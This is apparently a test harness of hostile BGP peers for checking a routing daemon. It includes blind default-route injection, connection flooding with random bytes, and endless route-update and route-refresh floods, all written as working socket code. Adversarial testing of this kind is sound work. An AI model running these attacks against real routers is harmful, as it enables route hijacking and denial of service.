"""Who speaks BGP and means harm. Its first argument says how; docs/security.md says what is right."""
import os
import socket
import struct
import sys
import threading
import time

OPEN, UPDATE, KEEPALIVE, REFRESH = 1, 2, 4, 5


def message(kind, body=b""):
    return b"\xff" * 16 + struct.pack(">HB", 19 + len(body), kind) + body


def opening(asn, identifier):
    capabilities = bytes([1, 4, 0, 1, 0, 1, 2, 0, 65, 4]) + struct.pack(">I", asn)
    parameters = bytes([2, len(capabilities)]) + capabilities
    fixed = struct.pack(">BHH", 4, asn, 90) + socket.inet_aton(identifier)
    return message(OPEN, fixed + bytes([len(parameters)]) + parameters)


def update(asn, next_hop, prefixes):
    path = bytes([2, 1]) + struct.pack(">I", asn)
    attributes = b"\x40\x01\x01\x00\x40\x02" + bytes([len(path)]) + path + b"\x40\x03\x04" + socket.inet_aton(next_hop)
    return message(UPDATE, b"\0\0" + struct.pack(">H", len(attributes)) + attributes + prefixes)


def blind(address, port, asn, next_hop):
    """All of a session in one segment, by somebody who need not see an answer: it tells of a default route."""
    try:
        stream = socket.create_connection((address, int(port)), 3)
        stream.sendall(opening(int(asn), "10.255.255.254") + message(KEEPALIVE) + update(int(asn), next_hop, b"\0"))
        for _ in range(4):
            time.sleep(1)
            stream.sendall(message(KEEPALIVE))
    except OSError as error:
        print(error)


def strangers(address, port, seconds):
    """Connections without end, each with 64 KiB of what nobody understands."""
    until, let_in = time.time() + float(seconds), 0
    while time.time() < until:
        try:
            with socket.create_connection((address, int(port)), 1) as stream:
                stream.sendall(os.urandom(65536))
                let_in += 1
        except OSError:
            pass
    print(let_in)


def routes(stream, until):
    """Routes without end."""
    number = 0
    while time.time() < until:
        prefixes = b"".join(b"\x20" + struct.pack(">I", (number + each) % 2**32) for each in range(800))
        stream.sendall(update(65001, "192.0.2.1", prefixes))
        number += 800
    print("routes", number, flush=True)


def refreshes(stream, until):
    """The wish for all routes again, without end."""
    while time.time() < until:
        stream.sendall(message(REFRESH, b"\0\1\0\1") * 100)


def router(mode, address, port, seconds):
    """A router that says what it may without end."""
    until = time.time() + float(seconds)

    def serve(stream):
        try:
            stream.sendall(opening(65001, address))
            stream.sendall(message(KEEPALIVE))
            time.sleep(1)
            {"routes": routes, "refreshes": refreshes}[mode](stream, until)
        except OSError as error:
            print(error, flush=True)

    with socket.create_server((address, int(port))) as listener:
        listener.settimeout(0.5)
        while time.time() < until:
            try:
                stream = listener.accept()[0]
            except TimeoutError:
                continue
            threading.Thread(target=drain, args=(stream,), daemon=True).start()
            threading.Thread(target=serve, args=(stream,), daemon=True).start()


def drain(stream):
    try:
        while stream.recv(65536):
            pass
    except OSError:
        pass


{"blind": blind, "strangers": strangers, "router": router}[sys.argv[1]](*sys.argv[2:])
